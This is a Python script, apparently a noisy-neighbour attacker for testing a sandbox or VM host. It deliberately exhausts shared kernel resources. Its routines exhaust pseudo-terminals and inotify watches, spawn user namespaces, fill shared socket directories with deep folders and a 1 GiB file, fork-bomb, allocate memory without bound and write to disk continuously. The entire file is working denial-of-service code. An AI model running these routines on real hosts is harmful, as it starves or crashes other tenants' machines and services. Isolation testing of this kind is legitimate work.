"""Uses up what the kernel of the host gives to all machines. Arguments: what, and for how many seconds."""
import ctypes
import os
import sys
import time

what, seconds = sys.argv[1], float(sys.argv[2])
end = time.monotonic() + seconds
libc = ctypes.CDLL(None, use_errno=True)
kept = []
open('/tmp/attacking', 'w').close()


def until_refused(take, most=100_000):
    """Takes until it is refused, and holds everything until the end."""
    for _ in range(most):
        if time.monotonic() > end:
            break
        try:
            kept.append(take())
        except OSError:
            break
    while time.monotonic() < end:
        time.sleep(0.05)


def in_children(take):
    """Several processes, because each has a limit of its own for open files."""
    for _ in range(8):
        if os.fork() == 0:
            until_refused(take)
            os._exit(0)
    while time.monotonic() < end:
        time.sleep(0.05)


def terminals():
    in_children(os.openpty)


def watches():
    def take():
        descriptor = libc.inotify_init()
        if descriptor < 0:
            raise OSError('refused')
        for folder, _, _ in os.walk('/usr/share'):
            if libc.inotify_add_watch(descriptor, folder.encode(), 0x2) < 0:
                break
        return descriptor
    in_children(take)


def user_namespaces():
    def take():
        pid = os.fork()
        if pid == 0:
            if libc.unshare(0x10000000) != 0:
                os._exit(1)
            time.sleep(max(0, end - time.monotonic()))
            os._exit(0)
        return pid
    until_refused(take, 5000)


def folders(base):
    try:
        os.mkdir(os.path.join(base, 'deep'))
        os.chdir(os.path.join(base, 'deep'))
        for _ in range(60_000):
            os.mkdir('d')
            os.chdir('d')
    except OSError:
        pass


def socket_folders():
    for base in ('/run/sandglass/sockets', '/tmp/.X11-unix'):
        folders(base)
        try:
            with open(os.path.join(base, 'fill'), 'wb') as file:
                os.posix_fallocate(file.fileno(), 0, 1 << 30)
        except OSError:
            pass
        try:
            for i in range(100_000):
                open(os.path.join(base, f'n{i}'), 'w').close()
        except OSError:
            pass


def forks():
    while time.monotonic() < end:
        try:
            if os.fork() == 0:
                time.sleep(max(0, end - time.monotonic()))
                os._exit(0)
        except OSError:
            time.sleep(0.01)


def memory():
    held = []
    while time.monotonic() < end:
        held.append(bytearray(16 << 20))


def writes():
    while time.monotonic() < end:
        try:
            with open('/var/tmp/fill', 'wb') as file:
                while time.monotonic() < end:
                    file.write(bytes(1 << 20))
                    os.fsync(file.fileno())
        except OSError:
            pass


{f.__name__: f for f in (terminals, watches, user_namespaces, socket_folders, forks, memory, writes)}[what]()
